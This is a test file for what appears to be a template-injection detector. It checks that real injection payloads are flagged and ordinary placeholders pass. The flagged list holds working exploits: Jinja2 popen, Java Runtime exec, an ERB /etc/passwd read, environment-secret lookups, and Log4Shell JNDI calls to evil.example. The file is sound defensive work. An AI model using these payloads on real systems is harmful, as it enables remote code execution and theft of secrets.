import { test } from 'node:test';
import { template } from './template.ts';
import { checkValues } from './testing.ts';

test('template: expressions inside template syntax, lookups and directives are flagged; placeholders are not', () => {
  checkValues(template, {
    flagged: [
      '{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', "{{7*'7'}}", '{{config}}', '{{config.items()}}', "{{''.__class__.__mro__[1].__subclasses__()}}", "{{lipsum.__globals__['os'].popen('id').read()}}",
      "${T(java.lang.Runtime).getRuntime().exec('id')}", '<#assign ex="freemarker.template.utility.Execute"?new()>', "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))", '{php}echo `id`;{/php}',
      "<%= File.open('/etc/passwd').read %>", "<%= Dir.entries('/') %>", '${jndi:ldap://evil.example/a}', '${${::-j}${::-n}di:ldap://evil.example/x}', '${env:AWS_SECRET_ACCESS_KEY}',
      "{{constructor.constructor('return process')()}}", '@(7*7)', '{% debug %}', '{{settings.SECRET_KEY}}', '{{ [].__class__.__base__.__subclasses__() }}',
    ],
    passed: [
      'Hi {{first_name}}, your order {{order_id}} ships soon', "{{ ship_date | date: '%b %d' }}", 'Total: ${amount}', 'Hello ${name}!', '`${items.length} items`', '{% for item in items %}',
      '{% if user %}', '<%= user.name %>', 'The template uses {{ title }} and {{ author }} placeholders.', 'email me @ home (after 6)', '#{issue}', '{"a": {"b": 1}}', 'CSS: .btn:hover { color: #fff; }',
    ],
  });
});
